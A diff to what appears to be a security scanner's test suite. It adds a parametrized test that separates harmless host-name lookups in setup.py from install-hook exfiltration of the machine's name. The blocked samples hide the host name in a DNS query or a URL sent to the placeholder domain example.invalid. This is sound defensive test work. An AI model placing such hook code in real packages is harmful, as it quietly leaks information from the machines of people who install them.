@@ -114,3 +114,29 @@ def test_setup_py_linked_to_a_file_the_scan_would_skip_is_scanned(tmp_path: Path
     findings = scan_path(archive)
     assert [f.rule for f in findings if f.rule.startswith("archive/")] == []
     assert _worst(findings, "hook/download-exec") is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "body,blocked",
+    [
+        # tensorboard: connect to this machine's own name to check its URL
+        ("host = socket.getfqdn()\ntry:\n    socket.create_connection((host, 6006), timeout=1)\n"
+         "except OSError:\n    host = 'localhost'\n", False),
+        ("socket.gethostbyname(socket.gethostname())\n", False),
+        # the machine's name inside a name under another domain is a DNS channel
+        ("socket.create_connection((socket.gethostname() + '.example.invalid', 53))\n", True),
+        ("name = f'{socket.getfqdn()}.example.invalid'\nsocket.create_connection((name, 53))\n",
+         True),
+        # and sending it is sending it
+        ("import urllib.request\nurllib.request.urlopen('https://example.invalid/?h=' + "
+         "socket.gethostname())\n", True),
+    ],
+    ids=["own-fqdn", "own-name-lookup", "dns-suffix", "fstring-name", "sent-in-url"],
+)
+def test_own_host_name_as_address_is_not_exfiltration(
+    tmp_path: Path, body: str, blocked: bool
+) -> None:
+    files = {"setup.py": "import socket\nfrom setuptools import setup\n" + body + "setup()\n"}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    worst = _worst(findings, "hook/env-exfiltration")
+    assert (worst is not None and worst >= Severity.HIGH) is blocked
